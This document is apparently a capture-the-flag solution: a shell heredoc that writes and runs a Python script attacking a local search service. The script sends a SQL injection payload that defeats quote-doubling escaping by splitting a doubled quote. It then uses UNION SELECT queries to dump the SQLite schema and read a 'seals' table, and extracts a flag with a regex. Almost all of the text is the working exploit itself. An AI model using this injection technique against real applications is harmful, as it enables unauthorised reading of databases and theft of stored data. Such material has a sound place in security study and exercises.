cat > ask.py <<'P'
import re, urllib.error, urllib.parse, urllib.request
def ask(question):
    try: return urllib.request.urlopen("http://127.0.0.1:8080/search?q=" + urllib.parse.quote(question)).read().decode()
    except urllib.error.HTTPError as error: return error.read().decode()
# 23 letters and a quote: the doubled quote is cut in two, so that the text goes on to the quote that opens the next word. That word
# is then SQL; the quote that closes it opens a text, which makes the third column, and the word after that is SQL again.
odd = "owner:\"" + "a" * 23 + "'\""
print(ask(odd + ' goods:" union select 1,sql," goods:",4 from sqlite_master--"'))
answer = ask(odd + ' goods:" union select 1,word," goods:",4 from seals--"')
found = re.search(r"flag\{\w+\}", answer)
print(found.group(0) if found else answer)
P
python3 ask.py
